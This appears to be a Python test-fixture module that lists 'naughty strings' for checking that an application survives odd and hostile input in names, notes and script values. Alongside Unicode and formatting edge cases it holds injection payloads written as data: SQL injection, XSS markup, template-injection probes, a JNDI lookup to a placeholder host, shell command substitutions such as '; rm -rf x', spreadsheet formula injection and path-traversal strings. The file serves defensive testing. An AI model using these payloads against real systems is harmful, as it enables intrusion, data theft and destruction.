"""Text that breaks programs: every entry must survive as a name, a company, a note, an answer and a script value.

All entries can be encoded as UTF-8 and differ from each other; `LONE_SURROGATES` cannot, and stand apart.
"""

_BLANK = ("", " ", "   ", "\t", "\n", "\r\n", "\u00a0", "\u200b", "\ufeff", "\u3000", "\u2028", "\x85", " \n \t ")

_WORDS_TAKEN_FOR_VALUES = (
    "null", "NULL", "None", "nil", "undefined", "true", "False", "NaN", "Infinity", "-inf", "0", "-0", "1e309",
    "007", "1,000.50", "1.000,50", "0x1F", "1/2", "#N/A", "#REF!", "12 Mar 2025", "MAR1", "2026-02-30", "24:61",
)  # fmt: skip

_NAMES = (
    "O'Brien-Škoda", "d’Arcy", "Null", "Test User", "X", "Jean-Luc de la Croix y Peña III", "Müller & Söhne GmbH",
    "Łódź", "Nguyễn Thị Ánh", "José", "Jose\u0301", "Straße", "İstanbul ıI", "Ǆ ǅ ǆ", "ﬁ ligature ﬃ", "Ω Å K",
    "Smith, Jr.", 'Dana "Dee" Whitfield', "Whitfield; Dana", "Dana|Whitfield", "Dana\tWhitfield",
    "Dana\nWhitfield", "Dana\r\nWhitfield", "Dana\rWhitfield", " leading and trailing ",
)  # fmt: skip

_SCRIPTS = (
    "山田 太郎", "金正日 김", "Иван Петров", "Γιώργος", "ไทยไม่มีช่องว่าง", "हिन्दी क्षत्रिय", "தமிழ்", "ქართული", "አማርኛ",
    "𝕯𝖆𝖓𝖆 𝓦𝓱𝓲𝓽", "ᚠᛇᚻ ᛒᛦᚦ", "𒀀𒁀𒂀", "𠜎𠜱𠝹", "ｆｕｌｌ ｗｉｄｔｈ", "ﾊﾝｶｸ", "⠓⠑⠇⠇⠕", "₀₁₂ ⁰¹² ½ ¾ Ⅷ", "ʇxǝʇ uʍop",
)  # fmt: skip

_RIGHT_TO_LEFT = (
    "שלום עולם", "مرحبا بالعالم", "Acme شركة 123 Ltd", "ﷺ", "\u202eevil.exe", "\u2066isolate\u2069 \u202dleft",
    "abc \u200fdef\u200e ghi", "\u202a\u202b\u202c\u202d\u202e", "price 5 ₪ or 12٫5", "ܫܠܡܐ",
)  # fmt: skip

_EMOJI_AND_MARKS = (
    "😀",
    "👩🏽‍💻",
    "👨‍👩‍👧‍👦",
    "🏳️‍🌈",
    "🇺🇸🇩🇪",
    "1️⃣#️⃣",
    "❤︎ ❤️",
    "🫠🪿",
    "☎ +1 ✆",
    "Z̸̢̛͙̰̈́̆a̶̰͝l̵̺͌g̷̘̈́o̴̝͑",
    "a" + "\u0301" * 60,
    "\u0301starts with a mark",
    "e\u200dx\u200cy",
    "\u1160\u115f",
    "soft\u00adhyphen",
)

_CONTROLS = (
    "\x00",
    "before\x00after",
    "\x01\x02\x03",
    "\x07bell",
    "\x08\x08back",
    "\x0bvertical\x0cform",
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x7f",
    "\x80\x9f",
    "\ufffe\uffff",
    "\U0010ffff",
    "\ue000 private",
    "\ufffd",
    "\ufff9a\ufffab\ufffb",
)

_SQL = (
    "'; DROP TABLE prospects; --",
    "1 OR 1=1",
    '" OR ""="',
    "Robert'); DELETE FROM touches;--",
    "%",
    "_",
    "100%_",
    "' UNION SELECT name FROM sqlite_master--",
    "/* */",
    "x' AND randomblob(1000000000)--",
    "name:* OR NEAR(",
    '"unclosed',
    "col MATCH 'a*'",
    "AND OR NOT",
    "^start -minus +plus (",
)

_MARKUP = (
    "<script>alert(1)</script>",
    "<b>bold</b>",
    "<img src=x onerror=alert(1)>",
    "<img src='file:///etc/passwd'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<table><tr><td>",
    "</p></div></body>",
    "&amp;lt;",
    "&#0;&#x1F600;&bogus;",
    "<!-- comment",
    "<![CDATA[x]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>&b;",
    "<style>*{display:none}</style>",
    "<svg/onload=alert(1)>",
    "<h1>Huge",
    "&Accelerator && more",
    "a < b > c",
    "# heading",
    "[x](http://tracker.example/p.png)",
    "![](http://tracker.example/p.png)",
    "```\ncode",
    "---\ntitle: x\n---",
    "| a | b |\n|---|---|",
    "* _both_ **",
    "~~~",
    "\\*not\\*",
)

_TEMPLATES = (
    "{{ 7 * 7 }}",
    "{{",
    "}}",
    "{% raw %}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{# comment",
    "{{ ''.__class__.__mro__ }}",
    "{{ config }}",
    "{{ prospect.first_name }}",
    "{% include '/etc/passwd' %}",
    "${jndi:ldap://x.example/a}",
    "#{1+1}",
    "%s%s%n%x",
    "%(name)s",
    "{0}",
    "{name!r:>1000}",
    "{number}",
    "$HOME",
    "`id`",
    "$(id)",
    "; rm -rf x",
    "| cat",
    "&& true",
    "%1 %2 %n",
    "%PATH%",
    "\\n\\t\\0",
    "\\u0041",
    "\\",
)

_FORMULAS = (
    "=1+1", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1;1)", "\t=1", "\r=1", "'=1", "''", "'",
    '=HYPERLINK("http://x.example","y")', "＝1+1",
)  # fmt: skip

_PATHS = (
    "../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "/dev/null",
    "C:\\con\\nul",
    "CON",
    "aux.txt",
    "~",
    "~root",
    ".",
    "..",
    "file:///etc/passwd",
    "\\\\server.example\\share",
    "a/b",
    "name.",
    "%2e%2e%2f",
    "-rf",
    "--help",
)

_HEADERS = ("Hello\r\nBcc: all@x.example", "a@x.example, b@x.example", "=?utf-8?B?SGk=?=", "mailto:a@x.example?bcc=b")

_PHONES = (
    "+1 (208) 555-0142 ext. 9",
    "٠١٢٣٤٥٦٧٨٩",
    "+",
    "++1",
    "208-CALL-NOW",
    "tel:+12085550142",
    "000000000000000000000",
)

_LONG = (
    "x" * 10_000, "word " * 2_000, "行" * 10_000, "\n" * 1_000, "😀" * 2_000, "<b>" * 3_000, "(" * 5_000, "9" * 5_000,
)  # fmt: skip

NAUGHTY: tuple[str, ...] = (
    _BLANK + _WORDS_TAKEN_FOR_VALUES + _NAMES + _SCRIPTS + _RIGHT_TO_LEFT + _EMOJI_AND_MARKS + _CONTROLS + _SQL
    + _MARKUP + _TEMPLATES + _FORMULAS + _PATHS + _HEADERS + _PHONES + _LONG
)  # fmt: skip

LONE_SURROGATES: tuple[str, ...] = ("\ud800", "a\udc00b", "\udfff\ud800")


def naughty_id(text: str) -> str:
    """A short printable name for a parametrised test."""
    return ascii(text[:24]).strip("'\"") + (f"…{len(text)}" if len(text) > 24 else "")
